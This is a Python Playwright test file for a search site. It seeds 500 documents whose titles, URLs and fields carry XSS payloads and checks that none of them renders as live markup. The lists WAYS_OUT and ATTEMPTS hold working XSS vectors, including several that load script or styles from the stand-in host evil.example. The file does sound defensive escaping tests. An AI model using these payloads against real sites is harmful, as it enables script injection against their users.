"""Five hundred titles, headings and texts that try to run something; none of them does."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from itertools import product
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from corpus.document import Document, Section, document_id
from corpus.index.open_index import begin_rebuild
from corpus.settings import Settings

pytestmark = pytest.mark.browser

# What a text may first try to break out of, and then what it tries to run.
WAYS_OUT = [
    *("", '"', "'", '">', "'>", "`>", "-->", "</title>", "</mark></p>", "</li></ul>"),
    *("</script>", "</style>", "</textarea>", "</svg>", "</noscript>", "]]>", "\\", "\u2028"),
    *('" autofocus x="', "%00", "{{", "{%", "${", "&quot;&gt;", "&#34;&#62;"),
]
ATTEMPTS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><button>x",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<base href=//evil.example/>",
    "onmouseover=alert(1) style=position:fixed;inset:0 x=",
]
PAYLOADS = [out + attempt for out, attempt in product(WAYS_OUT, ATTEMPTS)]
INERT = "main :is(script, img, iframe, object, embed, style, link, meta, base, math, animate)"


def hostile(number: int, payload: str) -> Document:
    url = f"https://site.example/{number}"
    text = f"revontuli {payload} taivaalla"
    section = Section(payload, text, 2, "lessons", "fi", f"Opimme, että {text}.")
    return Document(
        id=document_id(url),
        url=f"javascript:alert({number})" if number % 50 == 0 else f"{url}?{payload}",
        title=f"revontuli {payload}",
        language="fi",
        type="guide",
        sections=(section,),
        description=text,
        cities=("oulu",),
        contact=payload,
    )


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory):
    settings = Settings(data_dir=tmp_path_factory.mktemp("texts"))
    with ThreadPoolExecutor(1) as thread:
        thread.submit(_publish, settings).result()
    return settings.data_dir


def _publish(settings: Settings) -> None:
    writer = begin_rebuild(settings)
    for number, payload in enumerate(PAYLOADS):
        writer.add(hostile(number, payload))
    writer.publish()


def test_there_are_five_hundred_of_them():
    assert len(set(PAYLOADS)) == 500


def test_none_of_them_runs_in_results_documents_or_suggestions(watched_page, hostile_data, serve):
    with serve(hostile_data) as base:
        titles = []
        for page in range(1, 6):
            watched_page.goto(f"{base}/fi/haku?q=revontuli&size=100&page={page}")
            titles += watched_page.locator(".hit h3").all_text_contents()
            assert watched_page.locator(INERT).count() == 0
        assert len(titles) == 500
        watched_page.goto(f"{base}/en/search?q=revontuli&doc_lang=fi&size=100")
        assert watched_page.locator(INERT).count() == 0
        for number in range(0, 500, 25):
            identity = document_id(f"https://site.example/{number}")
            watched_page.goto(f"{base}/fi/sivu/{identity}")
            assert "revontuli" in watched_page.locator("h1").inner_text()
            assert watched_page.locator(INERT).count() == 0
            assert watched_page.locator("[href^=javascript]").count() == 0
        for payload in PAYLOADS[::25]:
            watched_page.goto(f"{base}/fi/haku?q={quote(payload)}")
            assert watched_page.locator(INERT).count() == 0
        _suggested(watched_page, base)


def _suggested(page, base: str) -> None:
    """Have the titles proposed, each as the text it is, and search one of them."""
    page.goto(f"{base}/fi/")
    field = page.get_by_role("combobox")
    for typed in ("revontuli", "revontuli script", "revontuli onerror", "revontuli svg"):
        field.fill("")
        with page.expect_response("**/suggest?*"):
            field.fill(typed)
        expect(page.get_by_role("option")).not_to_have_count(0)
        options = page.get_by_role("option").all_text_contents()
        assert any("<" in each for each in options)
        assert page.locator("[role=option] :not(.completed)").count() == 0
    field.press("ArrowDown")
    field.press("Enter")
    page.wait_for_url("**/fi/haku?q=*")
    assert page.locator(INERT).count() == 0
